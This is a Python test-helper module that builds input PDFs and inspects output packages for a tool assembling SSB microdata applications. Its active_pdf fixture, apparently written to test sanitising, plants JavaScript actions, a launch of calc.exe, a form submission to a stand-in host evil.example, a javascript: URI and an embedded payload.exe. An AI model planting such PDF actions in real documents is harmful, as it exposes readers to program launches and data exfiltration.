"""Builders for input PDFs and checks on package PDFs, shared by the PDF assembly tests."""

from __future__ import annotations

import hashlib
import re
import subprocess
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any, cast

from PIL import Image, ImageStat
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)
from reportlab.lib.pagesizes import A3, A4, LETTER, landscape
from reportlab.pdfgen.canvas import Canvas

from soknadspakke.pdf import (
    CoverSheet,
    PackageDocument,
    PackageMetadata,
    PackageSpec,
)

SIZES = {"A4": A4, "Letter": LETTER, "A3": A3, "A4-landscape": landscape(A4)}


def annots_of(page: Any) -> list[Any]:
    """The annotation dictionaries of a page (resolved)."""
    return [ref.get_object() for ref in page.get("/Annots", None) or []]


# --- building inputs ------------------------------------------------------------------------


def text_pdf(path: Path, *, pages: int = 2, size: tuple[float, float] = A4, rotate: int = 0,
             marker: str = "DOC", outline: bool = False, links: bool = False) -> Path:
    """A PDF whose page n says ``"<marker> page n"`` near the top left of its content.

    ``outline`` adds a two-level outline (a chapter per page, a section under the first);
    ``links`` puts on page 1 a link to page 2 (named destination) and a web link.
    """
    canvas = Canvas(str(path), pagesize=size, invariant=1)
    width, height = size
    for n in range(1, pages + 1):
        if rotate:
            canvas.setPageRotation(rotate)
        canvas.setFont("Helvetica", 14)
        canvas.drawString(72, height - 90, f"{marker} page {n}")
        canvas.rect(36, 36, width - 72, height - 72)  # content reaching the margins
        if outline:
            canvas.bookmarkPage(f"p{n}", fit="XYZ", top=height - 80)
            canvas.addOutlineEntry(f"Chapter {n}", f"p{n}", level=0)
            if n == 1:
                canvas.bookmarkPage("p1s", fit="XYZ", top=height - 200)
                canvas.addOutlineEntry("Section 1.1", "p1s", level=1)
        else:
            canvas.bookmarkPage(f"p{n}")
        if links and n == 1:
            canvas.linkAbsolute("to page 2", "p2", Rect=(72, height - 140, 250, height - 120))
            canvas.drawString(72, height - 135, "Go to page 2")
            canvas.linkURL("https://www.ssb.no/", (72, height - 180, 250, height - 160))
            canvas.drawString(72, height - 175, "www.ssb.no")
        canvas.showPage()
    canvas.save()
    return path


def form_pdf(path: Path, *, name: str = "Kari Nordmann", checked: bool = True,
             appearances: bool = True) -> Path:
    """A one-page form with a filled text field ``navn`` and a check box ``samtykke``.

    Without ``appearances`` the text field has no appearance stream and the form asks viewers
    to make one (``/NeedAppearances``), as many form-filling tools leave it.
    """
    canvas = Canvas(str(path), pagesize=A4, invariant=1)
    canvas.setFont("Helvetica", 12)
    canvas.drawString(72, 760, "Skjema")
    canvas.drawString(72, 720, "Navn:")
    canvas.acroForm.textfield(name="navn", value=name, x=150, y=710, width=250, height=24,
                              borderWidth=1, fontName="Helvetica", fontSize=12)
    canvas.drawString(72, 680, "Samtykke:")
    canvas.acroForm.checkbox(name="samtykke", checked=checked, x=150, y=672, size=18)
    canvas.showPage()
    canvas.save()
    if not appearances:
        reader = PdfReader(path)
        writer = PdfWriter(clone_from=reader)
        for annot in annots_of(writer.pages[0]):
            if annot.get("/FT") == "/Tx":
                del annot["/AP"]
        acro_form = cast(DictionaryObject, writer.root_object["/AcroForm"])
        acro_form[NameObject("/NeedAppearances")] = BooleanObject(True)
        writer.write(path)
    return path


def field_rect(path: Path, field: str) -> tuple[float, float, float, float]:
    for annot in annots_of(PdfReader(path).pages[0]):
        if annot.get("/T") == field:
            x0, y0, x1, y1 = (float(v) for v in annot["/Rect"])
            return min(x0, x1), min(y0, y1), max(x0, x1), max(y0, y1)
    raise KeyError(field)


def _action_link(writer: PdfWriter, page: Any, rect: Sequence[float],
                 action: dict[str, Any]) -> None:
    annot = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"),
        NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject(FloatObject(v) for v in rect),
        NameObject("/A"): DictionaryObject(action),
    })
    cast(ArrayObject, page.setdefault(NameObject("/Annots"), ArrayObject())).append(
        writer._add_object(annot))


def active_pdf(path: Path) -> Path:
    """A PDF full of active content: JavaScript on open, in the name tree and on the page,
    links that launch, submit, import, run JavaScript, chain actions, and a safe web link; a
    Screen and a FileAttachment annotation; an embedded file."""
    base = path.with_suffix(".base.pdf")
    text_pdf(base, pages=1, marker="ACTIVE")
    writer = PdfWriter(clone_from=PdfReader(base))
    base.unlink()
    page = writer.pages[0]
    js = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                           NameObject("/JS"): TextStringObject("app.alert('open');")})
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(js)
    writer.root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): js})
    names = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({
        NameObject("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(
            DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                              NameObject("/JS"): TextStringObject("app.alert('names');")}))])})})
    writer.root_object[NameObject("/Names")] = writer._add_object(names)
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): js})
    n = NameObject
    _action_link(writer, page, (72, 600, 200, 620),
                 {n("/S"): n("/Launch"), n("/F"): TextStringObject("calc.exe")})
    _action_link(writer, page, (72, 570, 200, 590),
                 {n("/S"): n("/JavaScript"), n("/JS"): TextStringObject("app.alert('link');")})
    _action_link(writer, page, (72, 540, 200, 560),
                 {n("/S"): n("/SubmitForm"), n("/F"): TextStringObject("https://evil.example/")})
    _action_link(writer, page, (72, 510, 200, 530),
                 {n("/S"): n("/ImportData"), n("/F"): TextStringObject("data.fdf")})
    _action_link(writer, page, (72, 480, 200, 500),
                 {n("/S"): n("/URI"), n("/URI"): TextStringObject("javascript:alert(1)")})
    _action_link(writer, page, (72, 450, 200, 470),
                 {n("/S"): n("/URI"), n("/URI"): TextStringObject("https://www.ssb.no/"),
                  n("/Next"): js})
    _action_link(writer, page, (72, 420, 200, 440),
                 {n("/S"): n("/URI"), n("/URI"): TextStringObject("https://www.uio.no/")})
    annots = cast(ArrayObject, page[n("/Annots")])
    for subtype in ("/Screen", "/RichMedia"):
        annots.append(writer._add_object(DictionaryObject({
            n("/Type"): n("/Annot"), n("/Subtype"): n(subtype),
            n("/Rect"): ArrayObject(FloatObject(v) for v in (300, 300, 400, 400)),
            n("/A"): js})))
    embedded = DecodedStreamObject()
    embedded.set_data(b"secret payload")
    embedded[n("/Type")] = n("/EmbeddedFile")
    spec = writer._add_object(DictionaryObject({
        n("/Type"): n("/Filespec"), n("/F"): TextStringObject("payload.exe"),
        n("/EF"): DictionaryObject({n("/F"): writer._add_object(embedded)})}))
    annots.append(writer._add_object(DictionaryObject({
        n("/Type"): n("/Annot"), n("/Subtype"): n("/FileAttachment"),
        n("/Rect"): ArrayObject(FloatObject(v) for v in (300, 500, 320, 520)),
        n("/FS"): spec})))
    names[n("/EmbeddedFiles")] = DictionaryObject({
        n("/Names"): ArrayObject([TextStringObject("payload.exe"), spec])})
    annots.append(writer._add_object(DictionaryObject({
        n("/Type"): n("/Annot"), n("/Subtype"): n("/Text"),
        n("/Rect"): ArrayObject(FloatObject(v) for v in (400, 700, 420, 720)),
        n("/Contents"): TextStringObject("A reviewer's note"),
        n("/F"): NumberObject(4), n("/AA"): DictionaryObject({n("/E"): js})})))
    writer.write(path)
    return path


def encrypted_pdf(path: Path, password: str) -> Path:
    plain = path.with_suffix(".plain.pdf")
    text_pdf(plain, pages=2, marker="SECRET")
    writer = PdfWriter(clone_from=PdfReader(plain))
    plain.unlink()
    writer.encrypt(user_password=password, owner_password=password + "-owner",
                   algorithm="AES-256")
    writer.write(path)
    return path


# --- specs ----------------------------------------------------------------------------------


def sha256(path: Path) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def document(path: Path, *, label: str = "Vedlegg", short: str = "Vedlegg",
             title: str | None = None, password: str | None = None,
             original: Path | None = None) -> PackageDocument:
    source = original or path
    return PackageDocument(pdf_path=path, password=password, type_ids=("attachment",),
                           type_label=label, short_label=short, title=title or path.stem,
                           file_name=source.name, sha256=sha256(source), original_path=original)


def spec(documents: Iterable[PackageDocument], *, lang: str = "nb", draft: bool = False,
         keep_form_fields: bool = False,
         findings: tuple[tuple[str, str], ...] = ()) -> PackageSpec:
    cover = CoverSheet(
        heading="Søknad om lån av mikrodata fra SSB",
        rows=(("Prosjekt", "Ærlige øyeblikk i åpne data"),
              ("Prosjektleder", "Zoë Ødegård-Σταυρίδης"),
              ("Institusjon", "Universitetet i Tromsø (970 422 528)"),
              ("SSB-referanse", "24/01234"),
              ("Søknadstype", "Endring: nye variabler; risikoklasse 2"),
              ("Kontakt", "zoe@example.no"), ("Dato", "2026-11-24"),
              ("Regelpakke", "ssb-mikrodata 2026.1"), ("Program", "Søknadspakke 0.1.0")),
        verdict="Klar til innsending – 0 feil, 2 advarsler" if not draft
        else "Ikke klar – 2 feil", ready=not draft, findings=findings)
    return PackageSpec(lang=lang, cover=cover, documents=tuple(documents),
                       metadata=PackageMetadata(title="Søknad: Ærlige øyeblikk",
                                                author="Zoë Ødegård-Σταυρίδης",
                                                subject="Lån av mikrodata fra SSB",
                                                creator="Søknadspakke 0.1.0",
                                                keywords="SSB, mikrodata"),
                       draft=draft, keep_form_fields=keep_form_fields,
                       manifest_extra={"rule_pack": {"id": "ssb-mikrodata",
                                                     "version": "2026.1"},
                                       "program_version": "0.1.0"})


# --- checking outputs -----------------------------------------------------------------------


def page_texts(pdf: Path) -> list[str]:
    """The text of every page (``pdftotext -layout``)."""
    out = subprocess.run(["pdftotext", "-layout", "-enc", "UTF-8", str(pdf), "-"],
                         capture_output=True, check=True).stdout.decode("utf-8")
    pages = out.split("\f")
    return pages[:-1] if pages and not pages[-1].strip() else pages


@dataclass(frozen=True)
class Word:
    text: str
    x0: float
    y0: float
    x1: float
    y1: float


def page_words(pdf: Path, page: int) -> tuple[float, float, list[Word]]:
    """Displayed page size and the words with their boxes (top-left origin), 1-based page."""
    out = subprocess.run(["pdftotext", "-bbox", "-f", str(page), "-l", str(page), str(pdf),
                          "-"], capture_output=True, check=True).stdout.decode("utf-8")
    size = re.search(r'<page width="([\d.]+)" height="([\d.]+)"', out)
    assert size is not None
    words = [Word(m[4], float(m[0]), float(m[1]), float(m[2]), float(m[3])) for m in re.findall(
        r'<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">([^<]*)</word>',
        out)]
    return float(size[1]), float(size[2]), words


def qpdf_check(pdf: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["qpdf", "--check", str(pdf)], capture_output=True, text=True,
                          check=False)


def qdf_text(pdf: Path, tmp: Path) -> str:
    """The whole file, uncompressed and without object streams, as text (to search keys)."""
    target = tmp / (pdf.stem + ".qdf.pdf")
    subprocess.run(["qpdf", "--qdf", "--object-streams=disable", str(pdf), str(target)],
                   check=True, capture_output=True)
    return target.read_bytes().decode("latin-1")


def page_index_map(reader: PdfReader) -> dict[int, int]:
    return {page.indirect_reference.idnum: i for i, page in enumerate(reader.pages)
            if page.indirect_reference is not None}


def link_targets(reader: PdfReader, page: int) -> list[tuple[tuple[float, ...], int]]:
    """``(rect, target page index)`` of every link with a ``/Dest`` on a page (0-based)."""
    index = page_index_map(reader)
    result = []
    for annot in annots_of(reader.pages[page]):
        if annot.get("/Subtype") == "/Link" and "/Dest" in annot:
            dest = annot["/Dest"]
            result.append((tuple(float(v) for v in annot["/Rect"]),
                           index[dest[0].idnum]))
    return result


def uri_links(reader: PdfReader, page: int) -> list[str]:
    result = []
    for annot in annots_of(reader.pages[page]):
        action = annot.get("/A")
        if action is not None and action.get("/S") == "/URI":
            result.append(str(action["/URI"]))
    return result


def outline_tree(reader: PdfReader) -> list[tuple[str, int, list[Any]]]:
    """``(title, page index, children)`` for every bookmark."""

    def walk(items: list[Any]) -> list[tuple[str, int, list[Any]]]:
        nodes: list[tuple[str, int, list[Any]]] = []
        for item in items:
            if isinstance(item, list):
                title, at, _ = nodes[-1]
                nodes[-1] = (title, at, walk(item))
            else:
                page = reader.get_destination_page_number(item)
                assert page is not None
                nodes.append((str(item.title), page, []))
        return nodes

    return walk(reader.outline)


def ink(pdf: Path, page: int, rect: tuple[float, float, float, float], tmp: Path, *,
        hide_annotations: bool = True) -> float:
    """How dark the area ``rect`` (user space, page not rotated) renders: the mean of
    ``255 - grey`` at 72 dpi, 0 for blank paper. Annotations are hidden by default, as QtPdf
    does with form fields."""
    reader = PdfReader(pdf)
    mediabox = reader.pages[page - 1].mediabox
    prefix = tmp / f"render-{pdf.stem}-{page}-{int(hide_annotations)}"
    command = ["pdftoppm", "-f", str(page), "-l", str(page), "-r", "72", "-gray",
               "-singlefile"]
    if hide_annotations:
        command.append("-hide-annotations")
    subprocess.run([*command, str(pdf), str(prefix)], check=True, capture_output=True)
    image = Image.open(prefix.with_suffix(".pgm"))
    x0, y0, x1, y1 = rect
    box = (round(x0 - float(mediabox.left)), round(float(mediabox.top) - y1),
           round(x1 - float(mediabox.left)), round(float(mediabox.top) - y0))
    return 255 - float(ImageStat.Stat(image.crop(box)).mean[0])
